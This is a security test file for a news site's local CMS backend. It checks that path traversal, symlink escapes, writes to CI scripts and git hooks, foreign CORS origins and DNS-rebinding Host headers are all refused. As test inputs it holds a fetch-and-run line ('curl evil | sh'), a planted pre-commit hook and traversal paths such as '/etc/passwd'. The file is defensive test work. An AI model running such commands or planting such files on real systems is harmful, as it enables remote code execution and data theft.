// The editing room's local backend under attack, over real HTTP on 127.0.0.1: a page on another
// localhost port, a DNS-rebinding page (a foreign Host header) and hostile paths must not read, write
// or delete anything but article and media files under the content folder's sections; legitimate
// saves from the preview's own origin still work.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startLocalBackend, type LocalBackend } from '../../src/cms/local-backend.ts';
import { loadSite } from '../../src/content/site.ts';
import { SITE_YAML } from '../helpers/fixture-content.ts';

const ARTICLE = `---\ntitle: 测试标题\nsource: 测试新闻网\ntimestamp: 2024-03-18 09:08:22\ntags: [民生]\nauthor: 李晓明\n---\n正文。\n`;
const PREVIEW_ORIGIN = 'http://127.0.0.1:48080';
const READ_ARTICLE = JSON.stringify({ action: 'getEntry', params: { branch: 'main', path: 'content/jiaoyu/2024/kai-xue.md' } });

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const address = server.address();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return typeof address === 'object' && address ? address.port : 0;
}

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

/** One request as a browser (or a rebinding page) would send it; headers are sent exactly as given. */
function send(port: number, method: string, headers: Record<string, string>, body?: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const outgoing = request({ host: '127.0.0.1', port, method, path: '/api/v1', headers, setHost: false }, (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, text }));
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
}

describe('the local backend is confined to the content folder and the preview', () => {
  let repo: string;
  let outside: string;
  let port: number;
  let backend: LocalBackend | undefined;
  const host = (): string => `127.0.0.1:${port}`;
  const api = (action: string, params: Record<string, unknown> = {}, headers: Record<string, string> = {}): Promise<Answer> =>
    send(port, 'POST', { host: host(), origin: PREVIEW_ORIGIN, 'content-type': 'application/json', ...headers }, JSON.stringify({ action, params: { branch: 'main', ...params } }));
  const exists = (file: string): Promise<boolean> => stat(path.join(repo, file)).then(() => true, () => false);
  const commit = { commitMessage: 'x' };
  const entryOptions = { commitMessage: 'x', useWorkflow: false, status: 'draft', collectionName: 'jiaoyu' };

  before(async () => {
    // The repository stand-in holds what decap-server used to expose: the project's own files.
    repo = await mkdtemp(path.join(os.tmpdir(), 'broadsheet-hostile-cms-'));
    outside = await mkdtemp(path.join(os.tmpdir(), 'broadsheet-hostile-outside-'));
    await mkdir(path.join(repo, 'content/jiaoyu/2024'), { recursive: true });
    await mkdir(path.join(repo, 'content/shehui'), { recursive: true });
    await mkdir(path.join(repo, '.git/hooks'), { recursive: true });
    await mkdir(path.join(repo, '.ci'), { recursive: true });
    await mkdir(path.join(repo, 'docs'), { recursive: true });
    port = await freePort();
    await writeFile(path.join(repo, 'content/site.yaml'), `${SITE_YAML}cms:\n  localPort: ${port}\n`);
    await writeFile(path.join(repo, 'content/jiaoyu/2024/kai-xue.md'), ARTICLE);
    await writeFile(path.join(repo, 'docs/architecture.md'), '# keep me\n');
    await writeFile(path.join(repo, 'package.json'), '{"name":"secret-project-file"}\n');
    await writeFile(path.join(outside, 'secret.md'), 'outside secret\n');
    // Links planted inside the content folder: to the project's docs and out of the project.
    await symlink(path.join(repo, 'docs'), path.join(repo, 'content/jiaoyu/docs-link'));
    await symlink(outside, path.join(repo, 'content/shehui/out-link'));
    await symlink(path.join(outside, 'secret.md'), path.join(repo, 'content/jiaoyu/2024/leak.md'));
    const site = await loadSite(path.join(repo, 'content/site.yaml'), 'content/site.yaml');
    backend = await startLocalBackend({ repoDir: repo, port, site, origins: [PREVIEW_ORIGIN] });
  });

  after(async () => {
    await backend?.close();
    if (repo) await rm(repo, { recursive: true, force: true });
    if (outside) await rm(outside, { recursive: true, force: true });
  });

  test('writing .ci/run through persistEntry or persistMedia is refused', async () => {
    const entry = await api('persistEntry', { dataFiles: [{ slug: 'run', path: '.ci/run', raw: 'curl evil | sh\n' }], assets: [], options: entryOptions });
    assert.ok(entry.status >= 400, `status ${entry.status}: ${entry.text}`);
    const media = await api('persistMedia', { asset: { path: '.ci/run', content: Buffer.from('x').toString('base64'), encoding: 'base64' }, options: commit });
    assert.ok(media.status >= 400, `status ${media.status}: ${media.text}`);
    assert.equal(await exists('.ci/run'), false);
  });

  test('creating .git/hooks/pre-commit is refused, also as an asset of a real article', async () => {
    const answer = await api('persistEntry', {
      dataFiles: [{ slug: 'ok', path: 'content/jiaoyu/2024/ok.md', raw: ARTICLE }],
      assets: [{ path: '.git/hooks/pre-commit', content: Buffer.from('#!/bin/sh\nid\n').toString('base64'), encoding: 'base64' }],
      options: entryOptions,
    });
    assert.ok(answer.status >= 400, `status ${answer.status}: ${answer.text}`);
    assert.equal(await exists('.git/hooks/pre-commit'), false);
    assert.equal(await exists('content/jiaoyu/2024/ok.md'), false, 'a refused request writes nothing at all');
  });

  test('deleting docs/architecture.md is refused (deleteFile and deleteFiles)', async () => {
    assert.ok((await api('deleteFile', { path: 'docs/architecture.md', options: commit })).status >= 400);
    assert.ok((await api('deleteFiles', { paths: ['content/jiaoyu/2024/kai-xue.md', 'docs/architecture.md'], options: commit })).status >= 400);
    assert.equal(await readFile(path.join(repo, 'docs/architecture.md'), 'utf8'), '# keep me\n');
    assert.equal(await exists('content/jiaoyu/2024/kai-xue.md'), true, 'nothing of a refused batch is deleted');
  });

  test('reading package.json is refused (getEntry, entriesByFiles, getMediaFile, listing the root)', async () => {
    for (const answer of [
      await api('getEntry', { path: 'package.json' }),
      await api('entriesByFiles', { files: [{ path: 'package.json' }] }),
      await api('getMediaFile', { path: 'package.json' }),
      await api('getMedia', { mediaFolder: '' }),
      await api('getMedia', { mediaFolder: '.' }),
      await api('entriesByFolder', { folder: '', extension: 'json', depth: 1 }),
    ]) {
      assert.ok(answer.status >= 400, `status ${answer.status}: ${answer.text}`);
      assert.doesNotMatch(answer.text, /secret-project-file|eyJuYW1lIjoic2VjcmV0/);
    }
  });

  test('paths through content/../, absolute paths, backslashes and NUL are refused', async () => {
    for (const bad of ['content/../package.json', 'content/jiaoyu/../../package.json', '/etc/passwd', path.join(repo, 'package.json'), 'content\\..\\package.json', 'content/jiaoyu/a\u0000.md', 'content/jiaoyu/.git/config']) {
      const read = await api('getEntry', { path: bad });
      assert.ok(read.status >= 400, `${JSON.stringify(bad)} read: status ${read.status}`);
      assert.doesNotMatch(read.text, /secret-project-file|root:/);
    }
    const write = await api('persistMedia', { asset: { path: 'content/../.ci/run', content: 'eA==', encoding: 'base64' }, options: commit });
    assert.ok(write.status >= 400);
    assert.equal(await exists('.ci/run'), false);
  });

  test('a symlink inside the content folder is never followed', async () => {
    const write = await api('persistEntry', { dataFiles: [{ slug: 'x', path: 'content/jiaoyu/docs-link/evil.md', raw: 'x' }], assets: [], options: entryOptions });
    assert.ok(write.status >= 400, `status ${write.status}`);
    assert.equal(await exists('docs/evil.md'), false);
    const overwrite = await api('persistEntry', { dataFiles: [{ slug: 'leak', path: 'content/jiaoyu/2024/leak.md', raw: 'overwritten' }], assets: [], options: entryOptions });
    assert.ok(overwrite.status >= 400);
    assert.equal(await readFile(path.join(outside, 'secret.md'), 'utf8'), 'outside secret\n');
    const read = await api('getEntry', { path: 'content/jiaoyu/2024/leak.md' });
    assert.doesNotMatch(read.text, /outside secret/);
    const media = await api('getMedia', { mediaFolder: 'content/shehui/out-link' });
    assert.doesNotMatch(media.text, /b3V0c2lkZSBzZWNyZXQ/);
    const removed = await api('deleteFile', { path: 'content/jiaoyu/docs-link/architecture.md', options: commit });
    assert.ok(removed.status >= 400);
    assert.equal(await exists('docs/architecture.md'), true);
    const listed = await api('entriesByFolder', { folder: 'content/jiaoyu', extension: 'md', depth: 3 });
    assert.equal(listed.status, 200);
    assert.doesNotMatch(listed.text, /outside secret|keep me/, 'a listing does not walk into links');
  });

  test('a foreign origin gets no CORS grant and cannot act; a missing Origin cannot either', async () => {
    for (const origin of ['http://localhost:9999', 'http://127.0.0.1:1', 'null', 'http://evil.example']) {
      const preflight = await send(port, 'OPTIONS', { host: host(), origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' });
      assert.equal(preflight.headers['access-control-allow-origin'], undefined, `${origin} preflight`);
      const answer = await api('persistMedia', { asset: { path: 'content/jiaoyu/2024/x.jpg', content: 'eA==', encoding: 'base64' }, options: commit }, { origin });
      assert.ok(answer.status >= 400, `${origin}: status ${answer.status}`);
      assert.equal(answer.headers['access-control-allow-origin'], undefined);
    }
    const noOrigin = await send(port, 'POST', { host: host(), 'content-type': 'application/json' }, READ_ARTICLE);
    assert.ok(noOrigin.status >= 400, `no Origin: status ${noOrigin.status}`);
    assert.doesNotMatch(noOrigin.text, /测试标题/);
    assert.equal(await exists('content/jiaoyu/2024/x.jpg'), false);
  });

  test('a DNS-rebinding Host header is refused even from an allowed-looking origin', async () => {
    for (const badHost of [`evil.example:${port}`, 'evil.example', `127.0.0.1:${port + 1}`, `localhost.evil.example:${port}`]) {
      const answer = await send(port, 'POST', { host: badHost, origin: `http://${badHost}`, 'content-type': 'application/json' }, READ_ARTICLE);
      assert.ok(answer.status >= 400, `${badHost}: status ${answer.status} ${answer.text}`);
      assert.doesNotMatch(answer.text, /测试标题/);
      const spoofed = await send(port, 'POST', { host: badHost, origin: PREVIEW_ORIGIN, 'content-type': 'application/json' }, READ_ARTICLE);
      assert.ok(spoofed.status >= 400, `${badHost} with the preview's Origin: status ${spoofed.status}`);
    }
  });

  test('the preview can still list, read, save an article with its image, save media and delete', async () => {
    const info = await api('info');
    assert.equal(info.status, 200);
    assert.equal(info.headers['access-control-allow-origin'], PREVIEW_ORIGIN);
    const preflight = await send(port, 'OPTIONS', { host: `localhost:${port}`, origin: PREVIEW_ORIGIN, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' });
    assert.ok(preflight.status < 300);
    assert.equal(preflight.headers['access-control-allow-origin'], PREVIEW_ORIGIN);

    const saved = await api('persistEntry', {
      dataFiles: [{ slug: 'xin-wen', path: 'content/jiaoyu/2031/xin-wen.md', raw: ARTICLE }],
      assets: [{ path: 'content/jiaoyu/2031/zhan-tai.jpg', content: Buffer.from('jpeg bytes').toString('base64'), encoding: 'base64' }],
      options: entryOptions,
    });
    assert.equal(saved.status, 200, saved.text);
    assert.equal(await readFile(path.join(repo, 'content/jiaoyu/2031/xin-wen.md'), 'utf8'), ARTICLE);
    assert.equal(await readFile(path.join(repo, 'content/jiaoyu/2031/zhan-tai.jpg'), 'utf8'), 'jpeg bytes');

    const listed = JSON.parse((await api('entriesByFolder', { folder: 'content/jiaoyu', extension: 'md', depth: 2 })).text) as { data: string; file: { path: string } }[];
    assert.deepEqual(listed.map((entry) => entry.file.path).sort(), ['content/jiaoyu/2024/kai-xue.md', 'content/jiaoyu/2031/xin-wen.md']);
    const entry = JSON.parse((await api('getEntry', { path: 'content/jiaoyu/2024/kai-xue.md' })).text) as { data: string };
    assert.equal(entry.data, ARTICLE);

    const media = await api('persistMedia', { asset: { path: 'content/images/logo-2031.png', content: Buffer.from('png').toString('base64'), encoding: 'base64' }, options: commit });
    assert.equal(media.status, 200, media.text);
    const listedMedia = JSON.parse((await api('getMedia', { mediaFolder: 'content/jiaoyu/2031' })).text) as { path: string; content: string }[];
    assert.deepEqual(listedMedia.map((file) => file.path), ['content/jiaoyu/2031/zhan-tai.jpg']);
    const one = JSON.parse((await api('getMediaFile', { path: 'content/images/logo-2031.png' })).text) as { content: string; name: string };
    assert.equal(Buffer.from(one.content, 'base64').toString(), 'png');

    const removed = await api('deleteFiles', { paths: ['content/jiaoyu/2031/xin-wen.md', 'content/jiaoyu/2031/zhan-tai.jpg'], options: commit });
    assert.equal(removed.status, 200, removed.text);
    assert.equal(await exists('content/jiaoyu/2031/xin-wen.md'), false);
  });
});
